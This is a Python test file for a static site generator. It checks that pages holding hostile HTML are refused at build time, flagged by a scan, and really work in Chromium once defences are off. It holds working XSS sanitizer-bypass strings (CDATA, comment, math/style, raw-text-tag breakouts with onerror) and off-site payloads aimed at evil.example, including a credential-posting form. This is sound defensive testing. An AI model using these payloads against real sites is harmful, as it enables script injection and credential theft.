"""Every hostile page the scan and the page check refuse really does something in a browser (B2, B7).

One project holds a hand-written page per payload: the markup that Python's
old ``html.parser`` read one way and Chromium another, a meta refresh, an
off-site stylesheet and ``@import``, a tracking pixel, an off-site password
form, and a ``class="mermaid"`` block. With the project as it is, ``briefing
build`` refuses each page at check time. Built once more with the page check
and the scan switched off, the site is scanned (each page has its finding) and
opened in Chromium, which shows the payload at work: its dialog fires, or the
browser asks another host for something (every such request is stopped before
it leaves the machine). A payload that stops working in browsers fails here,
so the corpus cannot rot into markup that does nothing.

The Chromium tests are skipped without a browser and fail in CI (see
browser_support.py); the build and scan tests run everywhere.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from browser_support import (
    DESKTOP,
    browser_problem,
    in_ci,
    serve,
    start_browser,
    unavailable_message,
)
from conftest import ROOT, site_project

from generator.config import read_site_config
from generator.errors import ContentError
from generator.output.build import build_site
from generator.output.scan import ThemeMarkup, scan_site
from generator.project import find_project

HANDLER = "event-handler attribute onerror="


@dataclass(frozen=True)
class Payload:
    markup: str
    """The line put into the page, after its heading."""
    finding: str
    """The start of what the scan reports on the built page."""
    dialog: str | None = None
    """The message of the dialog the payload opens."""
    request: str | None = None
    """The start of the off-site URL the browser asks for."""
    click: str | None = None
    """What a reader clicks first (a form is sent only then)."""


def _breakout(tag: str) -> Payload:
    return Payload(
        f"<{tag}><p title=\"</{tag}><img src=x onerror=alert('{tag}')>\"></p></{tag}>",
        HANDLER,
        dialog=tag,
    )


PAYLOADS = {
    # B2 rows 1-9
    "cdata": Payload("<![CDATA[ ><img src=x onerror=alert('cdata')> ]]>", HANDLER, dialog="cdata"),
    "comment": Payload("<!--><img src=x onerror=alert('comment')> -->", HANDLER, dialog="comment"),
    "math-style": Payload(
        "<math><style><img src=x onerror=alert('math-style')></style></math>",
        HANDLER,
        dialog="math-style",
    ),
    **{
        tag: _breakout(tag)
        for tag in ("noscript", "xmp", "noembed", "noframes", "textarea", "title")
    },
    # B2's related gaps and B7
    "meta-refresh": Payload(
        '<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">',
        '<meta http-equiv="refresh">',
        request="https://evil.example/refresh",
    ),
    "stylesheet": Payload(
        '<link rel="stylesheet" href="https://evil.example/sheet.css">',
        'off-site URL in href="https://evil.example/sheet.css"',
        request="https://evil.example/sheet.css",
    ),
    "css-import": Payload(
        "<style>@import url(https://evil.example/import.css);</style>",
        'off-site URL "https://evil.example/import.css" in <style>',
        request="https://evil.example/import.css",
    ),
    "pixel": Payload(
        '<img src="https://tracker.example/pixel.gif" alt="">',
        'off-site URL in src="https://tracker.example/pixel.gif"',
        request="https://tracker.example/pixel.gif",
    ),
    "form": Payload(
        '<form action="https://evil.example/login"><input type="password" name="pw" value="secret">'
        '<button id="sign-in">Sign in</button></form>',
        "<form> element inside the page content",
        request="https://evil.example/login",
        click="#sign-in",
    ),
    "mermaid": Payload(
        '<pre class="mermaid">graph TD; A-->B</pre>',
        'class="mermaid" on <pre>',
        request="https://unpkg.com/mermaid",
    ),
}


def page_text(name: str, payload: Payload) -> str:
    return f"# Payload {name}\n\nBefore the payload.\n\n{payload.markup}\n\nAfter the payload.\n"


def payload_project(dest: Path) -> Path:
    """The seed project with a page per payload."""
    root = site_project(dest, ROOT)
    for name, payload in PAYLOADS.items():
        (root / "content" / "pages" / f"{name}.md").write_text(
            page_text(name, payload), encoding="utf-8"
        )
    return root


_POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """The payload project built with every defence off: the page check, the scan, and the
    Content-Security-Policy (which alone stops the off-site loads in a browser that honours it)."""
    root = payload_project(tmp_path_factory.mktemp("payloads"))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("generator.check.content.check_page", lambda *args: None)
        patch.setattr(
            "generator.output.build.scan_site", lambda site, theme, scanned, only=None: []
        )
        build_site(find_project(root))
    for page in (root / "site").rglob("*.html"):
        html = page.read_text(encoding="utf-8")
        page.write_text(_POLICY.sub("", html, count=1), encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def refused(tmp_path_factory) -> dict[str, list[str]]:
    """The check's errors, by page, when the payload project is built as it is."""
    root = payload_project(tmp_path_factory.mktemp("refused"))
    with pytest.raises(ContentError) as info:
        build_site(find_project(root))
    assert not (root / "site").exists()
    by_page: dict[str, list[str]] = {}
    for d in info.value.diagnostics:
        by_page.setdefault(d.path, []).append(d.format())
    return by_page


@pytest.fixture(scope="module")
def findings(hostile) -> dict[str, list[str]]:
    """The scan's findings on the site built without it, by page."""
    config = read_site_config(hostile)
    theme = ThemeMarkup.from_templates(
        [hostile / "site_templates" / "overrides", _material_templates()],
        ["assets/javascripts/table-labels.js"],
        config.site_url,
    )
    by_page: dict[str, list[str]] = {}
    for f in scan_site(hostile / "site", theme):
        by_page.setdefault(f.path, []).append(f.what)
    return by_page


def _material_templates() -> Path:
    import material

    return Path(material.__file__).parent / "templates"


@pytest.mark.parametrize("name", PAYLOADS)
def test_briefing_build_refuses_the_page(refused, name):
    errors = refused.get(f"content/pages/{name}.md", [])
    assert errors and all("is not allowed in a page" in e for e in errors), errors


def test_nothing_but_the_payload_pages_is_refused(refused):
    assert sorted(refused) == sorted(f"content/pages/{name}.md" for name in PAYLOADS)


@pytest.mark.parametrize("name", PAYLOADS)
def test_the_scan_finds_the_payload(findings, name):
    found = findings.get(f"pages/{name}/index.html", [])
    assert any(what.startswith(PAYLOADS[name].finding) for what in found), found


def test_the_scan_finds_nothing_on_the_other_pages(findings):
    assert sorted(findings) == sorted(f"pages/{name}/index.html" for name in PAYLOADS)


# --- Chromium: each payload at work -------------------------------------------------------------


@pytest.fixture(scope="module")
def browser():
    problem = browser_problem()
    if problem:
        if in_ci():
            pytest.fail(unavailable_message(problem, ci=True), pytrace=False)
        pytest.skip(unavailable_message(problem, ci=False))
    from playwright.sync_api import sync_playwright

    playwright = sync_playwright().start()
    try:
        chromium = start_browser(playwright, in_ci())
    except BaseException:
        playwright.stop()
        raise
    yield chromium
    chromium.close()
    playwright.stop()


@pytest.fixture(scope="module")
def served(hostile, browser):
    prefix = urlsplit(read_site_config(hostile).site_url).path or "/"
    with serve(hostile / "site", prefix) as base:
        yield base


@dataclass
class Seen:
    dialogs: list[str]
    requests: list[str]
    """Every URL asked of a host other than the test server (none of them left the machine)."""


def visit(browser, url: str, payload: Payload) -> Seen:
    """Open ``url`` as a reader would, wait (ten seconds at most) until the payload has shown itself."""
    context = browser.new_context(viewport=DESKTOP)
    context.set_default_timeout(10_000)
    seen = Seen([], [])
    local = urlsplit(url).netloc

    def route(r):
        if urlsplit(r.request.url).netloc == local:
            r.continue_()
        else:
            seen.requests.append(r.request.url)
            r.abort()

    def dialog(d):
        seen.dialogs.append(d.message)
        d.dismiss()

    try:
        context.route("**/*", route)
        tab = context.new_page()
        tab.on("dialog", dialog)
        tab.goto(url, wait_until="load")
        if payload.click:
            tab.click(payload.click)
        for _ in range(100):
            if _shown(seen, payload):
                break
            tab.wait_for_timeout(100)
    finally:
        context.close()
    return seen


def _shown(seen: Seen, payload: Payload) -> bool:
    if payload.dialog is not None:
        return payload.dialog in seen.dialogs
    return any(u.startswith(payload.request) for u in seen.requests)


@pytest.mark.parametrize("name", PAYLOADS)
def test_the_payload_works_in_chromium(browser, served, name):
    payload = PAYLOADS[name]
    seen = visit(browser, f"{served}pages/{name}/", payload)
    assert _shown(seen, payload), (
        f"{name}: dialogs {seen.dialogs}, off-site requests {seen.requests}"
    )


def test_the_about_page_shows_nothing_of_the_kind(browser, served):
    seen = visit(browser, f"{served}pages/about/", Payload("", "", request="https://"))
    assert seen.dialogs == []
    assert seen.requests == []
